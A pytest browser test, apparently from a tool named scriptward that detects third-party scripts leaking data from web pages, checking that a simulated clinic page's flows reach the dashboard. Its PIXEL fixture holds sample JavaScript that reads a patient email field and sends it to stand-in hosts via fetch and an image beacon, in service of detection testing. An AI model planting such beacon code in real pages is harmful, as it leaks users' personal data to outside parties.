"""From a real page with the real live sensor to a row of the dashboard."""

import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Page

from scriptward.app import serve
from scriptward.store import flows, inventory
from scriptward.store.database import Store, opened
from tests.app.collector.sample_beacon import SITE
from tests.app.driving import Driver
from tools import sensor_build

pytestmark = pytest.mark.browser

PATIENT = "maren.okafor@home.test"
WAIT_S = 20


class Site(BaseHTTPRequestHandler):
    """The clinic's page, a third party's script, and its place to send to."""

    collector = ""

    def do_GET(self) -> None:
        policy = f"img-src 'self'; report-uri {self.collector}csp/{SITE}"
        if self.path.startswith("/portal/"):
            self._answer(PAGE.format(collector=self.collector), "text/html", policy=policy)
        elif self.path == "/pixel.js":
            self._answer(PIXEL, "text/javascript")
        else:
            self._answer("", "text/plain")

    do_POST = do_GET  # noqa: N815  # the name http.server asks for

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def _answer(self, text: str, kind: str, *, policy: str = "") -> None:
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("access-control-allow-origin", "*")
        if policy:
            self.send_header("content-security-policy-report-only", policy)
        self.end_headers()
        self.wfile.write(text.encode())


PAGE = """<!doctype html><title>Inbox</title>
<script src="{collector}sensor.js"></script>
<input id="email" value="maren.okafor@home.test">
<script src="http://cdn.acme.test/pixel.js"></script>"""
PIXEL = """fetch("http://in.acme.test/collect?who=" + document.getElementById("email").value);
new Image().src = "http://px.acme.test/i.gif?who=" + document.getElementById("email").value;"""


@pytest.fixture
def site() -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def driver(browser_path: Path, site: ThreadingHTTPServer) -> Iterator[Driver]:
    rules = f"--host-resolver-rules=MAP *.test 127.0.0.1:{site.server_port}"
    driver = Driver(browser_path, args=(rules,))
    yield driver
    driver.close()


def wait_for(store: Store, wanted: flows.Wanted) -> tuple[flows.FlowRow, ...]:
    until = time.monotonic() + WAIT_S
    rows = flows.page(store, wanted).rows
    while not rows and time.monotonic() < until:
        rows = flows.page(store, wanted).rows
    return rows


def test_what_a_script_does_on_a_live_page_is_on_the_dashboard(
    driver: Driver, database: str, tmp_path: Path
):
    assert sensor_build.main([]) == 0

    def visit(page: Page) -> int:
        page.goto(f"http://{SITE}/portal/inbox?patient={PATIENT}")
        with page.expect_response("**/c/**") as answer:
            page.evaluate("window.dispatchEvent(new PageTransitionEvent('pagehide'))")
        return answer.value.status

    with serve.serving(database, port=0, sites=[SITE]) as address:
        Site.collector = address.url
        status, _ = driver.on_page(visit, bypass_csp=False)
        store = opened(database)
        sent = wait_for(store, flows.Wanted(seen="live", words="in.acme.test"))
        reported = wait_for(store, flows.Wanted(seen="csp-report"))
        scripts = inventory.page(store, inventory.Wanted(words="pixel.js")).rows
        store.close()
    written = b"".join(file.read_bytes() for file in tmp_path.iterdir())

    assert status == 204
    assert [(row.page_class, row.scripts, row.party) for row in sent] == [
        ("authenticated", ("http://cdn.acme.test/pixel.js",), "third")
    ]
    assert [(row.recipient, row.channels) for row in reported] == [
        ("px.acme.test", ("img-src (report only)",))
    ]
    assert len(scripts) == 1
    assert PATIENT.encode() not in written
